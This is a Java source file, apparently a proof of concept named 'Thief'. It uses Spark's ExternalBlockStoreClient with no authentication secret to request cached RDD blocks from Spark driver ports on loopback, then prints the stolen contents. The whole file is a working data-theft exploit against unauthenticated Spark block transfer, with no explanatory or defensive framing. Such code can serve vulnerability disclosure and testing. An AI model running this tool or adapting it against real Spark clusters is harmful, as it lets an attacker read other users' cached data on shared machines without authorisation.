import java.util.concurrent.CountDownLatch;
import java.util.concurrent.TimeUnit;
import org.apache.spark.SparkConf;
import org.apache.spark.network.buffer.ManagedBuffer;
import org.apache.spark.network.netty.SparkTransportConf;
import org.apache.spark.network.shuffle.BlockFetchingListener;
import org.apache.spark.network.shuffle.ExternalBlockStoreClient;
import org.apache.spark.network.util.TransportConf;

/** Asks each of these ports of loopback for blocks of cached data, with Spark's own client and no secret. */
public class Thief implements BlockFetchingListener {
    private static final int DATASETS = 12; // that a driver may have created before the cached one
    private static final int WAIT_SECONDS = 10; // Py4J's ports never answer

    private final CountDownLatch open;
    private final String port;

    private Thief(String port) {
        this.port = port;
        open = new CountDownLatch(DATASETS);
    }

    public static void main(String[] ports) throws Exception {
        SparkConf conf = new SparkConf(false).set("spark.shuffle.io.maxRetries", "0");
        TransportConf transport =
            SparkTransportConf.fromSparkConf(conf, "shuffle", 1, scala.Option.empty(), scala.Option.empty());
        Thief[] thieves = new Thief[ports.length];
        for (int index = 0; index < ports.length; index++) {
            String port = ports[index];
            ExternalBlockStoreClient client = new ExternalBlockStoreClient(transport, null, false, 5000);
            client.init("thief");
            Thief thief = thieves[index] = new Thief(port);
            for (int number = 0; number < DATASETS; number++) {
                String[] block = {"rdd_" + number + "_0"};
                client.fetchBlocks("127.0.0.1", Integer.parseInt(port), "driver", block, thief, null);
            }
        }
        long end = System.nanoTime() + TimeUnit.SECONDS.toNanos(WAIT_SECONDS);
        for (Thief thief : thieves) {
            thief.open.await(end - System.nanoTime(), TimeUnit.NANOSECONDS);
        }
        System.out.println("asked all");
        System.exit(0);
    }

    @Override
    public void onBlockFetchSuccess(String block, ManagedBuffer data) {
        try {
            byte[] bytes = new byte[(int) data.size()];
            data.nioByteBuffer().get(bytes);
            System.out.println(port + " gave " + block + " " + new String(bytes, "ISO-8859-1").replaceAll("[^ -~]", "."));
        } catch (java.io.IOException error) {
            System.out.println(port + " failed " + error);
        }
        open.countDown();
    }

    @Override
    public void onBlockFetchFailure(String block, Throwable error) {
        System.out.println(port + " refused " + block + " " + String.valueOf(error).replaceAll("\\s+", " "));
        open.countDown();
    }
}
